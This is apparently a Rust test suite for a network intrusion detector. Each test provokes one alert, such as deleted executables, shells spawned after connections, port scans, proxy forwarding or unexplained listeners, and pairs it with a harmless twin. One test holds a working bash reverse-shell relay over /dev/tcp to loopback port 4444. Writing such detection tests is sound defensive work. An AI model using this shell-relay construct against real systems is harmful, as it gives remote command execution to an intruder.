//! What raises each built-in detection, with a harmless twin.

use std::io::Write as _;
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::{Value, json};
use tests::{Actor, Far, Running, Watch, assert_has, copy_program, endpoint, in_fresh_netns, kind};

use super::{alerts, codes};
use crate::actor;

fn alert(watch: &mut Watch, code: &str) -> Value {
    watch.expect(&format!("an alert {code}"), |event| kind(event) == "alert" && event["code"] == code)
}

#[test]
fn deleted_program_and_a_replaced_one() {
    in_fresh_netns(|| {
        let mut watch = Watch::start(&["--detect", "exe-deleted"]);
        let folder = tempfile::tempdir().unwrap();
        let started = |name: &str| {
            let path = folder.path().join(name);
            copy_program(Path::new(Actor::program()), &path);
            (Actor::start(&path), path)
        };
        let ((mut harmless, replaced), (mut server, deleted)) = (started("replaced"), started("deleted"));
        copy_program(Path::new(Actor::program()), &folder.path().join("new"));
        std::fs::rename(folder.path().join("new"), &replaced).unwrap();
        std::fs::remove_file(deleted).unwrap();
        harmless.say("listen 127.0.0.1:6000 16");
        server.say("listen 127.0.0.1:6001 16");
        let found = alert(&mut watch, "exe-deleted");
        assert_has(&found, json!({"process": {"pid": server.pid()}, "local": {"port": 6001}}));
        assert_eq!(codes(&watch.finish().events).len(), 1);
    });
}

#[test]
fn shell_because_of_a_request_and_another_program() {
    in_fresh_netns(|| {
        let mut watch = Watch::start(&["--detect", "accept-then-shell"]);
        let mut server = actor();
        server.say("listen 127.0.0.1:6000 16");
        let mut ask = |line: &str| {
            let mut client = TcpStream::connect("127.0.0.1:6000").unwrap();
            server.say("accept");
            client.write_all(b"x").unwrap();
            let pid: u32 = server.say(line).trim().parse().unwrap();
            server.say("close");
            pid
        };
        ask("cgi /bin/true");
        let shell = ask("cgi /bin/sh -c true");
        let found = alert(&mut watch, "accept-then-shell");
        assert_has(&found, json!({"process": {"pid": shell}, "local": {"port": 6000}, "side": "remote"}));
        // A shell that nobody asked for.
        let own = Running::start(Command::new("/bin/sh").args(["-c", "true"])).pid();
        let log = watch.finish();
        assert!(codes(&log.events).iter().all(|(_, pid)| *pid != own), "{:#?}", alerts(&log.events));
        assert_eq!(codes(&log.events).len(), 1);
    });
}

/// A client of the network that passes what it receives to a shell, and the same without a connection.
#[test]
fn shell_that_is_steered_over_pipes() {
    const PASSES_ON: &str = "coproc SHELL { exec bash; }; while read -r line <&3; do echo \"$line\" >&${SHELL[1]}; \
                             read -r answer <&${SHELL[0]}; echo \"$answer\" >&4; done";
    in_fresh_netns(|| {
        let mut watch = Watch::start(&["--detect", "shell-relayed"]);
        let server = TcpListener::bind("127.0.0.1:4444").unwrap();
        let folder = tempfile::tempdir().unwrap();
        let fifo = folder.path().join("fifo");
        nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRWXU).unwrap();
        let start = |redirection: &str| {
            let line = format!("exec {redirection}; {PASSES_ON}");
            Running::start(Command::new("/bin/bash").args(["-c", &line]).stdin(Stdio::null()))
        };
        let harmless = start(&format!("3<>{} 4>/dev/null", fifo.display()));
        let holder = start("3<>/dev/tcp/127.0.0.1/4444 4>&3");
        let (mut far, _) = server.accept().unwrap();
        let found = alert(&mut watch, "shell-relayed");
        let detail = found["detail"].as_str().unwrap();
        assert!(detail.contains(&format!(
            "over pipes from bash[{}], which is connected to 127.0.0.1:4444",
            holder.pid()
        )));
        assert_eq!(found["process"]["comm"], "bash");
        assert_ne!(found["process"]["pid"], holder.pid());
        far.write_all(b"exit\n").unwrap();
        drop((far, harmless, holder));
        assert_eq!(codes(&watch.finish().events).len(), 1);
    });
}

#[test]
fn scan_of_listeners_and_a_client_of_them() {
    in_fresh_netns(|| {
        let mut watch = Watch::start(&["--detect", "port-scan"]);
        let servers: Vec<_> =
            (6000..6006).map(|port| TcpListener::bind(("127.0.0.1", port)).unwrap()).collect();
        let visit = |from: &str, word: &[u8]| {
            for server in &servers {
                let local: std::net::SocketAddr = format!("{from}:0").parse().unwrap();
                let socket = nix::sys::socket::socket(
                    nix::sys::socket::AddressFamily::Inet,
                    nix::sys::socket::SockType::Stream,
                    nix::sys::socket::SockFlag::SOCK_CLOEXEC,
                    None,
                )
                .unwrap();
                let raw = std::os::fd::AsRawFd::as_raw_fd(&socket);
                let std::net::SocketAddr::V4(local) = local else { panic!() };
                nix::sys::socket::bind(raw, &nix::sys::socket::SockaddrIn::from(local)).unwrap();
                let std::net::SocketAddr::V4(to) = server.local_addr().unwrap() else { panic!() };
                nix::sys::socket::connect(raw, &nix::sys::socket::SockaddrIn::from(to)).unwrap();
                let mut client = TcpStream::from(socket);
                client.write_all(word).unwrap();
                drop(client);
                let (mut served, _) = server.accept().unwrap();
                std::io::Read::read_to_end(&mut served, &mut Vec::new()).unwrap();
            }
        };
        visit("127.0.0.2", b"x");
        visit("127.0.0.3", b"");
        let found = alert(&mut watch, "port-scan");
        assert_has(&found, json!({"remote": {"ip": "127.0.0.3"}, "process": null, "side": "remote"}));
        assert_eq!(found["rule"]["tags"], json!(["attack.discovery", "attack.t1046"]));
        assert_eq!(codes(&watch.finish().events).len(), 1);
    });
}

#[test]
fn connection_for_a_client_elsewhere_and_for_one_here() {
    in_fresh_netns(|| {
        let far = Far::away();
        let mut watch = Watch::start(&["--detect", "forwarded-for-remote"]);
        let mut proxy = actor();
        proxy.say("listen 0.0.0.0:1080 16");
        let (one, two) = (far.listen(4000), far.listen(4001));
        let mut here = TcpStream::connect("127.0.0.1:1080").unwrap();
        proxy.say("accept");
        here.write_all(b"x").unwrap();
        proxy.say(&format!("forward {}:4000", far.ip));
        one.connected();
        let client = far.connect(1080);
        // The last that was accepted is meant.
        proxy.say("accept");
        client.send("x");
        proxy.say(&format!("forward {}:4001", far.ip));
        two.connected();
        let found = alert(&mut watch, "forwarded-for-remote");
        assert_has(&found, json!({"process": {"pid": proxy.pid()}, "remote": {"port": 4001}}));
        assert_eq!(found["trace"]["origin"]["ip"], far.ip.as_str());
        assert_eq!(codes(&watch.finish().events).len(), 1);
    });
}

#[test]
fn listener_that_nothing_explains() {
    in_fresh_netns(|| {
        let mut watch = Watch::start(&["--detect", "listener-unexplained"]);
        let mut server = actor();
        server.say("listen 127.0.0.1:6123 16");
        let found = alert(&mut watch, "listener-unexplained");
        assert_has(&found, json!({"process": {"pid": server.pid()}, "local": {"port": 6123}}));
        assert!(found["detail"].as_str().unwrap().contains("no package owns"), "{found:#}");
        assert_eq!(watch.finish().status.code(), Some(0));
    });
}

#[test]
fn first_times_by_a_baseline() {
    in_fresh_netns(|| {
        let folder = tempfile::tempdir().unwrap();
        let baseline = folder.path().join("baseline.json");
        let baseline = baseline.to_str().unwrap();
        let run = |learn: &str, port: u16| {
            let arguments =
                ["--detect", "first-connect,first-listen", "--baseline", baseline, "--learn", learn];
            let mut watch = Watch::start(&[&arguments[..], &["--no-seed"]].concat());
            let (mut server, mut client) = (actor(), actor());
            server.say(&format!("listen 127.0.0.1:{port} 16"));
            client.say(&format!("connect 127.0.0.1:{} 127.0.0.1:{port}", port - 1000));
            watch.at("open", endpoint(port - 1000, port));
            let mut found: Vec<_> = codes(&watch.finish().events).into_iter().map(|(code, _)| code).collect();
            found.sort();
            found
        };
        assert_eq!(run("0", 6000), ["first-connect", "first-listen"]);
        assert_eq!(run("0", 6001), [""; 0], "known now");
        std::fs::remove_file(baseline).unwrap();
        assert_eq!(run("1d", 6002), [""; 0], "it learns");
        assert_eq!(run("0", 6003), [""; 0], "it has learned");
    });
}
